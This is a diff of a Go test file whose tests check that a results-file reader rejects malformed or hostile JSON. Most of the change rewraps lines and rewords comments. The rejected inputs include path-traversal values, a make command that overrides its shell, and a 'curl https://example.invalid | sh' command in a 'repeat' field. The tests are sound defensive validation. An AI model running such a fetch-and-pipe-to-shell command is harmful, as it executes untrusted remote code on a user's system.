@@ -11,7 +11,7 @@ import (
 	"h2lab/internal/facts"
 )
 
-// changed writes a whole result in which one text is replaced, and reads it.
+// changed writes a whole result with one text replaced, and reads it.
 func changed(t *testing.T, old, with string) error {
 	t.Helper()
 	dir := t.TempDir()
@@ -32,14 +32,19 @@ func TestWhatIsDecodedIsWhatTheSchemaSaw(t *testing.T) {
 	f := labtest.NewFaults(t, labtest.CorruptResults)
 	for _, c := range []struct{ what, old, with, says string }{
 		{"a name that stands twice, first with a path", `"id": "a"`, `"id": "a", "Id": "../../victim"`, "at '/run/id'"},
-		{"an optional text under a name in capitals alone", `"cold_start": {`, `"HUNG": -5, "cold_start": {`, "/trials/0/hung'"},
-		{"a number of a million digits", `"seed": 18446744073709551615`, `"seed": 1e999999`, "out of range for a number"},
-		{"a number with hundreds of digits", `"seed": 18446744073709551615`, `"seed": ` + strings.Repeat("9", 300), "out of range for a number"},
+		{"an optional text under a name in capitals alone", `"cold_start": {`, `"HUNG": -5, "cold_start": {`,
+			"/trials/0/hung'"},
+		{"a number of a million digits", `"seed": 18446744073709551615`, `"seed": 1e999999`,
+			"out of range for a number"},
+		{"a number with hundreds of digits", `"seed": 18446744073709551615`, `"seed": ` + strings.Repeat("9", 300),
+			"out of range for a number"},
 		{"a float that is infinite", `"warmup_s": 0`, `"warmup_s": 1e400`, "out of range for a number"},
 		{"a fraction where a count stands", `"attempts": 10`, `"attempts": 10.5`, "/trials/0/attempts'"},
 		{"no pools, which everything is divided by", `"pools": 1`, `"pools": 0`, "/workload/pools'"},
-		{"a series outside of cells/", `"series": "cells/nginx-1000.h2.k6-shared-pool/1`, `"series": "cells/../../1`, "/trials/0/series'"},
-		{"a command line that is no make of the lab", `"repeat": ""`, `"repeat": "curl https://example.invalid | sh"`, "'/run/repeat'"},
+		{"a series outside of cells/", `"series": "cells/nginx-1000.h2.k6-shared-pool/1`,
+			`"series": "cells/../../1`, "/trials/0/series'"},
+		{"a command line that is no make of the lab", `"repeat": ""`, `"repeat": "curl https://example.invalid | sh"`,
+			"'/run/repeat'"},
 		{"a make that sets its shell", `"repeat": ""`, `"repeat": "make repro SHELL=x"`, "'/run/repeat'"},
 		{"a server's name with a slash", `"name": "nginx-1000"`, `"name": "a/b"`, "/servers/0/name'"},
 		{"a configuration outside of the project", `"config": ""`, `"config": "../x"`, "/servers/0/config'"},
@@ -57,7 +62,8 @@ func TestATimelineIsBoundedToo(t *testing.T) {
 	for _, c := range []struct{ what, text, says string }{
 		{"a time of 1e300 ms", `{"t_ms":[1e300],"accepted":[],"requests":[],"source":{}}`, "/t_ms/0"},
 		{"a count below zero", `{"t_ms":[1],"accepted":[-1],"requests":[],"source":{}}`, "/accepted/0"},
-		{"a column that is too short", `{"t_ms":[1,2],"accepted":[1],"requests":[],"source":{}}`, "column accepted has 1 values"},
+		{"a column that is too short", `{"t_ms":[1,2],"accepted":[1],"requests":[],"source":{}}`,
+			"column accepted has 1 values"},
 	} {
 		f.Try("series.json with "+c.what, func(t *testing.T) {
 			dir := t.TempDir()
@@ -85,7 +91,7 @@ func TestALongMessageIsCutWhenItIsWritten(t *testing.T) {
 	}
 }
 
-// FuzzRead: no file makes the reader panic, and what it takes in fits the schema.
+// No file may make the reader panic, and every accepted file must match the schema.
 func FuzzRead(f *testing.F) {
 	data, err := json.Marshal(filled(*sample()))
 	if err != nil {
